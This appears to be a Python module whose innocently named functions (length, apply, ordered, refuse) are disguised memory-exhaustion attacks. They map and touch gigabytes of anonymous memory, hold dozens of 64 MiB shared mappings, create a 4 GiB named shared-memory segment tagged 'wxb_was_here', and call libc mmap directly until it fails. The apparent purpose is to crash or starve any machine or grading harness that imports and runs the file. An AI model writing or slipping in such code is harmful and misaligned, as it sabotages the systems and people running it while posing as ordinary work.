import ctypes
import mmap
import multiprocessing.shared_memory


#: Written into each piece: to fill all of it would take longer than a busy machine gives.
PART = bytes(1 << 22)


def length(v):
    with mmap.mmap(-1, 1 << 33) as memory:
        for page in range(0, 1 << 32, 4096):
            memory[page] = 1


def apply(W, x):
    held = []
    for _ in range(64):
        held.append(mmap.mmap(-1, 1 << 26, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
        held[-1].write(PART)


def ordered(values):
    return multiprocessing.shared_memory.SharedMemory("wxb_was_here", True, 1 << 32).size


def refuse(v):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    for _ in range(64):
        address = libc.mmap(None, ctypes.c_size_t(1 << 26), 3, 0x21, -1, ctypes.c_long(0))
        if address in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "mmap")
        ctypes.memset(address, 1, len(PART))
    raise SystemExit("four gigabytes")
